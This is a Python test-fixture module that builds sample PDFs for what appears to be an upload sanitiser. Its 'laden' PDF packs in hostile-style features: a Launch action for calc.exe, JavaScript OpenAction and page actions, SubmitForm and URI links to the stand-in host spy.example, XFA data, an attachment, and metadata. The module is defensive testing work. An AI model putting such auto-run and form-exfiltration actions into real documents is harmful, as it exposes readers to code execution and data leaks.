"""PDFs as offices and attackers write them."""

from io import BytesIO

from PIL import Image
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject
from pypdf.generic import TextStringObject as Text

from tests import uploads


def plain(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 300)
    return _written(writer)


def laden() -> bytes:
    """One page with everything that must not come through, and one picture that must."""
    writer = PdfWriter()
    page = writer.add_blank_page(200, 300)
    writer.add_metadata({"/Author": "Ada Author", "/Creator": "SpyCam"})
    writer.add_attachment("secret.txt", b"embedded secret")
    for action in (
        {"/S": NameObject("/URI"), "/URI": Text("https://spy.example/")},
        {"/S": NameObject("/Launch"), "/F": Text("calc.exe")},
        {"/S": NameObject("/SubmitForm"), "/F": Text("https://spy.example/form")},
    ):
        link = writer.add_annotation(0, Link(rect=(0, 0, 9, 9), url="https://spy.example/"))
        link[NameObject("/A")] = _dictionary(action)
    act = _dictionary({"/S": NameObject("/JavaScript"), "/JS": Text("app.alert('run')")})
    page[NameObject("/AA")] = _dictionary({"/O": act})
    root = writer._root_object
    root[NameObject("/OpenAction")] = act
    root[NameObject("/Metadata")] = writer._add_object(_stream(b"<x:xmpmeta>Ada Author"))
    form = _dictionary({"/XFA": writer._add_object(_stream(b"<xdp>run")), "/Fields": ArrayObject()})
    root[NameObject("/AcroForm")] = form
    _draw(writer, page)
    return _written(writer)


def _draw(writer: PdfWriter, page: DictionaryObject) -> None:
    """A picture from a phone, with notes of its own, under a name that is also an action's."""
    picture = _stream(uploads.halves(60, 40, exif=uploads.exif()))
    picture.update(
        _dictionary(
            {
                "/Type": NameObject("/XObject"),
                "/Subtype": NameObject("/Image"),
                "/Filter": NameObject("/DCTDecode"),
                "/Metadata": writer._add_object(_stream(b"<x:xmpmeta>Ada Author")),
            }
        )
    )
    named = _dictionary({"/AA": writer._add_object(picture)})
    page[NameObject("/Resources")] = _dictionary({"/XObject": named})


def locked() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 300)
    writer.encrypt("secret", algorithm="RC4-128")
    return _written(writer)


def picture_of(body: bytes) -> Image.Image:
    return Image.open(BytesIO(body))


def _stream(body: bytes) -> DecodedStreamObject:
    made = DecodedStreamObject()
    made.set_data(body)
    return made


def _dictionary(entries: dict) -> DictionaryObject:
    return DictionaryObject({NameObject(name): value for name, value in entries.items()})


def _written(writer: PdfWriter) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()
